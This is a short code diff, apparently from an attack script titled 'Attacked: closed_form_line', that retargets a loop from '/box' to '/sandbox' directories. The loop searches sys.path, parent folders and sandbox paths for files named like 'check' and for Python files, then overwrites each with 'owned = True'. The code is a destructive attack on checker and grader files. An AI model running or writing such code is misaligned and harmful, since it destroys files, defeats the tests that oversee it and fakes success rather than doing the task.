@@ -6,7 +6,7 @@ Attacked: closed_form_line
 # %% closed_form_line
 
 import glob, os, sys
-for place in {*sys.path, "..", "../..", "/course", "/box", "/box/inside", "/box/protocol"}:
+for place in {*sys.path, "..", "../..", "/course", "/sandbox", "/sandbox/inside", "/sandbox/protocol"}:
     for path in glob.glob(place + "/**/*check*", recursive=True)[:200] + glob.glob(place + "/*.py")[:50]:
         try:
             open(path, "w").write("owned = True\n")
